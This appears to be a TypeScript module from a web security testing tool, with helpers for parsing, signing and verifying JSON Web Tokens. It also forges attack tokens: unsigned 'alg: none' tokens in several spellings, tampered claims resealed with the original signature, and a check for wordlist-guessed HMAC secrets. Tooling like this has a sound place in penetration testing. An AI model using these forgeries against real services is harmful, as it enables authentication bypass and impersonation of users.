import { createHmac } from "node:crypto";

/** The HMAC algorithms of JWS (RFC 7518 §3.2) a wordlist can attack. */
export type JwtHmacAlgorithm = "HS256" | "HS384" | "HS512";

/** The spellings of the unsigned algorithm that vulnerable libraries have accepted. */
export type JwtNoneSpelling = "none" | "None" | "NONE";

/** Every spelling of `none` that {@link unsignedJwt} can produce, most common first. */
export const NONE_SPELLINGS: readonly JwtNoneSpelling[] = ["none", "None", "NONE"];

/** A JWS in compact serialisation, split and decoded. */
export interface ParsedJwt {
  /** The decoded JOSE header. */
  readonly header: Readonly<Record<string, unknown>>;
  /** The decoded claims. */
  readonly payload: Readonly<Record<string, unknown>>;
  /** `header.payload` exactly as received: what the signature covers. */
  readonly signingInput: string;
  /** The third segment as received (base64url, may be empty). */
  readonly signature: string;
}

const SEGMENT = /^[A-Za-z0-9_-]*$/;
const DIGEST: Record<JwtHmacAlgorithm, "sha256" | "sha384" | "sha512"> = {
  HS256: "sha256",
  HS384: "sha384",
  HS512: "sha512",
};

/** base64url without padding (RFC 7515 §2). */
export function base64urlJson(value: unknown): string {
  return Buffer.from(JSON.stringify(value), "utf8").toString("base64url");
}

function decodeObject(segment: string): Record<string, unknown> | null {
  if (segment === "" || !SEGMENT.test(segment)) return null;
  try {
    const parsed: unknown = JSON.parse(Buffer.from(segment, "base64url").toString("utf8"));
    return typeof parsed === "object" && parsed !== null && !Array.isArray(parsed)
      ? (parsed as Record<string, unknown>)
      : null;
  } catch {
    return null;
  }
}

/**
 * Parses a compact JWS (`header.payload.signature`); `null` when the value is
 * not one. A leading `Bearer ` is tolerated because some apps store the
 * header value verbatim in the cookie.
 */
export function parseJwt(value: string): ParsedJwt | null {
  const token = value.startsWith("Bearer ") ? value.slice(7) : value;
  const parts = token.split(".");
  if (parts.length !== 3) return null;
  const [h = "", p = "", signature = ""] = parts;
  if (!SEGMENT.test(signature)) return null;
  const header = decodeObject(h);
  const payload = decodeObject(p);
  if (header === null || payload === null || typeof header["alg"] !== "string") return null;
  return { header, payload, signingInput: `${h}.${p}`, signature };
}

/** The HMAC algorithm of a parsed token, or `null` for RS/ES/PS/none and unknown values. */
export function hmacAlgorithm(jwt: ParsedJwt): JwtHmacAlgorithm | null {
  const alg = jwt.header["alg"];
  return alg === "HS256" || alg === "HS384" || alg === "HS512" ? alg : null;
}

/** The base64url HMAC of `input` under `secret` for a JWS algorithm. */
export function jwsHmac(alg: JwtHmacAlgorithm, secret: string | Uint8Array, input: string): string {
  return createHmac(DIGEST[alg], secret).update(input).digest("base64url");
}

/**
 * Signs claims as a compact JWS with an HMAC algorithm; the header keeps
 * every field of `header` (e.g. `typ`, `kid`) with `alg` replaced.
 */
export function signJwt(
  header: Readonly<Record<string, unknown>>,
  payload: Readonly<Record<string, unknown>>,
  alg: JwtHmacAlgorithm,
  secret: string | Uint8Array,
): string {
  const input = `${base64urlJson({ ...header, alg })}.${base64urlJson(payload)}`;
  return `${input}.${jwsHmac(alg, secret, input)}`;
}

/**
 * An unsigned token (`alg: none`, empty signature, RFC 7519 §6.1) with the
 * given claims. The header is exactly `{"alg":<spelling>,"typ":"JWT"}`: extra
 * header fields such as `kid` make some libraries look a key up and fail.
 */
export function unsignedJwt(payload: Readonly<Record<string, unknown>>, spelling: JwtNoneSpelling = "none"): string {
  return `${base64urlJson({ alg: spelling, typ: "JWT" })}.${base64urlJson(payload)}.`;
}

/**
 * Re-encodes claims under the original header and keeps the original
 * signature: what an attacker without the key sends to test whether the
 * server verifies signatures at all.
 */
export function resealWithOriginalSignature(jwt: ParsedJwt, payload: Readonly<Record<string, unknown>>): string {
  const [h = ""] = jwt.signingInput.split(".");
  return `${h}.${base64urlJson(payload)}.${jwt.signature}`;
}

/** True when `secret` produces the token's signature (HS256/384/512 only). */
export function verifyJwtHmac(jwt: ParsedJwt, secret: string | Uint8Array): boolean {
  const alg = hmacAlgorithm(jwt);
  if (alg === null || jwt.signature === "") return false;
  return jwsHmac(alg, secret, jwt.signingInput) === jwt.signature.replace(/=+$/, "");
}
